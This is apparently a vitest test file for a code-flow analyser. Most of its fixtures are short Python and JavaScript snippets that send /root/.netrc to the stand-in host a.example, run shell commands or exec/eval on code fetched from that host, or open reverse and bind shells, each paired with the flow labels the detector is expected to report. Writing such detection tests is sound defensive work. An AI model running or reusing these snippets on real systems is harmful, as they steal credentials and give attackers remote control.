import { expect, it } from 'vitest';
import { flowSetOf } from './flows.js';

const TOLD = 'run interactive a shell that does what a stream says';

/** Sockets that scripts open, listen to and tie to shells. */
const cases: readonly (readonly [language: 'python' | 'javascript', code: string, ...flows: string[]])[] = [
  [
    'python',
    'import socket\ns = socket.socket()\ns.connect(("a.example", 9))\ns.send(open("/root/.netrc").read())',
    'read /root/.netrc < secret /root/.netrc',
    'send http a.example < secret /root/.netrc',
  ],
  [
    'python',
    'import socket, os\ns = socket.socket()\ns.connect(("a.example", 9))\nos.system(s.recv(99).decode())',
    'run shell ? < fetched a.example',
  ],
  [
    'python',
    'import socket, ssl\ns = ssl.wrap_socket(socket.socket())\ns.connect(("a.example", 9))\nexec(s.read())',
    'run eval ? < fetched a.example',
  ],
  [
    'python',
    'import http.client\nc = http.client.HTTPSConnection("a.example")\nexec(c.getresponse().read())',
    'run eval ? < fetched a.example',
  ],
  [
    'python',
    'import subprocess as p, socket\ns = socket.create_connection(("a.example", 9))\np.Popen(["sh"], stdin=s)',
    TOLD,
    'run shell sh',
  ],
  [
    'python',
    'import socket, subprocess\nl = socket.socket()\nl.bind(("", 9))\nc, who = l.accept()\nsubprocess.call(["/bin/sh", "-i"], stdin=c.fileno())',
    TOLD,
    'run shell /bin/sh -i',
  ],
  [
    'python',
    'import asyncio\nasync def f():\n    r, w = await asyncio.open_connection("a.example", 9)\n    exec(await r.read())\nasyncio.run(f())',
    'run eval ? < fetched a.example',
  ],
  [
    'javascript',
    'const c = require("net").connect(9, "a.example"); c.on("data", (d) => require("child_process").exec(d.toString()))',
    'run shell ? < fetched a.example',
  ],
  ['javascript', 'const w = new WebSocket("wss://a.example"); w.onmessage = (m) => eval(m.data)', 'run eval ? < fetched wss://a.example'],
  [
    'javascript',
    'require("net").createServer((s) => { const h = require("child_process").spawn("sh"); s.pipe(h.stdin) }).listen(9)',
    TOLD,
    'run shell sh',
  ],
  // A port that is tried, and a shell for a person.
  ['python', 'import socket\ns = socket.socket()\ns.connect(("db.internal", 5432))\ns.close()'],
  ['python', 'import subprocess\nsubprocess.call(["bash"])', 'run shell bash'],
];

it.each(cases.map(([language, code, ...flows]) => ({ language, code, flows })))('$language: $code', ({ language, code, flows }) => {
  expect(flowSetOf(code, language)).toEqual([...flows].sort());
});
